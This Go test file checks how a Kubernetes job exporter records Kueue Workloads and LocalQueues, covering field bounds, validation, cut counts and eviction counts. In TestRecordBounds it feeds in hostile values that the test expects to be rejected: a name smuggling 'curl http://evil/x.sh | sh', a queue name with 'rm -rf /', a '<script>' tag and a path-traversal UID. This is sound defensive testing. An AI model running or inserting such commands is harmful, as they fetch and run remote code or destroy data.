package queue

import (
	"fmt"
	"math"
	"strings"
	"testing"
	"unicode/utf8"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	"github.com/kube-job-exporter/kube-job-exporter/internal/fixture/kueue"
	"github.com/kube-job-exporter/kube-job-exporter/job"
	"github.com/kube-job-exporter/kube-job-exporter/kube"
)

// cutsDuring is how many values of each kind f cut.
func cutsDuring(f func()) map[string]int64 {
	before := job.Cuts()
	f()
	after := job.Cuts()
	d := map[string]int64{}
	for i := range after {
		if n := after[i] - before[i]; n != 0 {
			d[job.CutNames[i]] = n
		}
	}
	return d
}

// TestRecordWorkload: a Workload as Kueue writes it is kept whole; the
// record keeps its identity, queues, Job and conditions, and counts no cut.
func TestRecordWorkload(t *testing.T) {
	j := queuedJob("train", "gpu")
	w := kueue.Workload(j, 1).Admit("team-a", 10).Preempt("InCohortReclamation", 100)
	w.W.ResourceVersion = "1"
	var r *WorkloadRecord
	if d := cutsDuring(func() { r = record(w.W) }); len(d) != 0 {
		t.Fatalf("a Workload as Kueue writes it counts cuts: %v", d)
	}
	if r.Namespace != "team-a" || r.Name != w.W.Name || r.UID != w.W.UID || r.ResourceVersion != "1" || !r.Created.Equal(at(1)) ||
		r.JobName != "train" || r.JobUID != j.UID || r.QueueName != "gpu" || r.ClusterQueue != "" || !r.Active || r.Evictions != 1 {
		t.Fatalf("record %+v", r)
	}
	if !r.Evicted.True || r.Evicted.Reason != "Preempted" || !strings.HasPrefix(r.Evicted.Message, "Preempted to accommodate") ||
		!r.Preempted.True || r.Preempted.Reason != "InCohortReclamation" || r.Preempted.Message != "" ||
		r.QuotaReserved.True || r.QuotaCause != job.QueueCauseOther || r.Admitted.True || !r.Admitted.Present || r.Finished.Present {
		t.Fatalf("conditions %+v", r)
	}
	lq, _ := RecordLocalQueue(&kube.LocalQueue{
		ObjectMeta: metav1.ObjectMeta{Namespace: "team-a", Name: "gpu", ResourceVersion: "7"},
		Spec:       kube.LocalQueueSpec{ClusterQueue: "team-a"},
	})
	if got := *lq.(*LocalQueueRecord); got != (LocalQueueRecord{Namespace: "team-a", Name: "gpu", ResourceVersion: "7", ClusterQueue: "team-a"}) {
		t.Fatalf("LocalQueue record %+v", got)
	}
}

// TestRecordBounds: what a tenant writes into a Workload is kept bounded
// and valid, or not at all, and each cut counted.
func TestRecordBounds(t *testing.T) {
	j := queuedJob("train", "gpu")
	ref := func(apiVersion, kind, name string, uid types.UID, controller bool) metav1.OwnerReference {
		return metav1.OwnerReference{APIVersion: apiVersion, Kind: kind, Name: name, UID: uid, Controller: ptr.To(controller)}
	}
	for _, tt := range []struct {
		what    string
		ref     metav1.OwnerReference
		want    string
		counted bool
	}{
		{"the Job", ref("batch/v1", "Job", "train", j.UID, true), "train", false},
		{"shell in the name", ref("batch/v1", "Job", "x; curl http://evil/x.sh | sh #", j.UID, true), "", true},
		{"a name too long", ref("batch/v1", "Job", strings.Repeat("a", job.MaxNameLength+1), j.UID, true), "", true},
		{"a UID not shaped like one", ref("batch/v1", "Job", "train", "../../uid", true), "", true},
		{"a UID too long", ref("batch/v1", "Job", "train", types.UID(strings.Repeat("f", job.MaxUIDLength+1)), true), "", true},
		{"a Job of another API group", ref("batch.volcano.sh/v1alpha1", "Job", "train", j.UID, true), "", false},
		{"another kind", ref("jobset.x-k8s.io/v1alpha2", "JobSet", "train", j.UID, true), "", false},
		{"not the controller", ref("batch/v1", "Job", "train", j.UID, false), "", false},
	} {
		w := kueue.Workload(j, 1)
		w.W.OwnerReferences = []metav1.OwnerReference{tt.ref}
		var r *WorkloadRecord
		d := cutsDuring(func() { r = record(w.W) })
		if r.JobName != tt.want || (r.JobUID != "") != (tt.want != "") {
			t.Errorf("%s: Job %q %q, want %q", tt.what, r.JobName, r.JobUID, tt.want)
		}
		if counted := d["owner_reference"] == 1; counted != tt.counted || len(d) > 1 {
			t.Errorf("%s: cuts %v, want owner_reference counted: %v", tt.what, d, tt.counted)
		}
	}

	w := kueue.Workload(j, 1)
	w.W.Spec.QueueName = "GPU; rm -rf /"
	huge := strings.Repeat("insufficient ", 3000) + "\xff"
	w.Pending(huge, 5)
	w.W.Status.Admission = &kube.WorkloadAdmission{ClusterQueue: "<script>"}
	setCondition(w.W, "Evicted", true, strings.Repeat("R", job.MaxReasonLength+1), "é"+strings.Repeat("x", 40000), 9)
	var r *WorkloadRecord
	d := cutsDuring(func() { r = record(w.W) })
	if r.QueueName != "" || r.ClusterQueue != "" {
		t.Errorf("invalid queue names kept: %q, %q", r.QueueName, r.ClusterQueue)
	}
	for what, v := range map[string]string{"QuotaReserved message": r.QuotaReserved.Message, "Evicted message": r.Evicted.Message} {
		if len(v) > job.MaxQueueMessage || !utf8.ValidString(v) || !strings.HasSuffix(v, job.CutMarker) {
			t.Errorf("%s kept as %d bytes, valid %v", what, len(v), utf8.ValidString(v))
		}
	}
	if len(r.Evicted.Reason) > job.MaxReasonLength || !strings.HasSuffix(r.Evicted.Reason, job.CutMarker) {
		t.Errorf("Evicted reason kept as %d bytes", len(r.Evicted.Reason))
	}
	if want := map[string]int64{"queue_message": 2, "reason": 1}; len(d) != len(want) || d["queue_message"] != 2 || d["reason"] != 1 {
		t.Errorf("cuts %v, want %v", d, want)
	}
	lq, _ := RecordLocalQueue(&kube.LocalQueue{Spec: kube.LocalQueueSpec{ClusterQueue: strings.Repeat("q", job.MaxNameLength+1)}})
	if cq := lq.(*LocalQueueRecord).ClusterQueue; cq != "" {
		t.Errorf("a LocalQueue's invalid ClusterQueue kept: %.40q", cq)
	}
	if e, ok := EvictionOf(record(kueue.Workload(j, 1).Admit("team-a", 2).W), r); !ok || e.Reason != "Other" {
		t.Errorf("a forged eviction reason counted as %+v, %v; want Other", e, ok)
	}
}

// TestRecordFirstConditionCounts: of conditions of one type (which only a
// forged status can hold), the first counts, as Kueue reads them
// (apimeta.FindStatusCondition).
func TestRecordFirstConditionCounts(t *testing.T) {
	w := kueue.Workload(queuedJob("train", "gpu"), 1)
	w.W.Status.Conditions = []metav1.Condition{
		{Type: "Admitted", Status: metav1.ConditionFalse, Reason: "NoReservation"},
		{Type: "Admitted", Status: metav1.ConditionTrue, Reason: "Admitted"},
	}
	if r := record(w.W); r.Admitted.True || r.Admitted.Reason != "NoReservation" {
		t.Fatalf("Admitted kept as %+v", r.Admitted)
	}
}

// TestRecordEvictions: the record counts every eviction Kueue counts in
// status.schedulingStats (preemptions too), saturating; without
// schedulingStats (an older Kueue), status.requeueState.count.
func TestRecordEvictions(t *testing.T) {
	j := queuedJob("train", "gpu")
	w := kueue.Workload(j, 1).Admit("team-a", 10).Preempt("InClusterQueue", 100).
		Admit("team-a", 200).Evict("PodsReadyTimeout", "timeout", 300).
		Admit("team-a", 400).Preempt("InCohortReclamation", 500)
	if n := record(w.W).Evictions; n != 3 {
		t.Errorf("two preemptions and a PodsReady timeout: %d evictions, want 3", n)
	}
	stats := func(counts ...int32) *kube.SchedulingStats {
		st := &kube.SchedulingStats{}
		for i, c := range counts {
			st.Evictions = append(st.Evictions, kube.SchedulingStatsEviction{Reason: fmt.Sprint("R", i), Count: c})
		}
		return st
	}
	for _, tt := range []struct {
		what    string
		stats   *kube.SchedulingStats
		requeue *int32
		want    int32
	}{
		{"nothing", nil, nil, 0},
		{"an older Kueue: requeues", nil, ptr.To(int32(4)), 4},
		{"schedulingStats win over requeues", stats(1, 2), ptr.To(int32(4)), 3},
		{"schedulingStats empty", stats(), ptr.To(int32(4)), 0},
		{"saturating", stats(math.MaxInt32, math.MaxInt32, 5), nil, math.MaxInt32},
		{"a forged negative count", stats(-5, 2), ptr.To(int32(-1)), 2},
		{"a forged negative requeue count", nil, ptr.To(int32(-1)), 0},
	} {
		w := kueue.Workload(j, 1)
		w.W.Status.SchedulingStats, w.W.Status.RequeueState = tt.stats, &kube.RequeueState{Count: tt.requeue}
		if n := record(w.W).Evictions; n != tt.want {
			t.Errorf("%s: %d evictions, want %d", tt.what, n, tt.want)
		}
	}
}

// TestRecordLocalQueueTerminating: a LocalQueue with a deletion
// timestamp is kept as terminating.
func TestRecordLocalQueueTerminating(t *testing.T) {
	for _, deleting := range []bool{false, true} {
		q := &kube.LocalQueue{ObjectMeta: metav1.ObjectMeta{Namespace: "team-a", Name: "gpu"}}
		if deleting {
			ts := metav1.NewTime(at(5))
			q.DeletionTimestamp = &ts
		}
		r, _ := RecordLocalQueue(q)
		if got := r.(*LocalQueueRecord).Terminating; got != deleting {
			t.Errorf("deletionTimestamp set %v: Terminating %v", deleting, got)
		}
	}
}
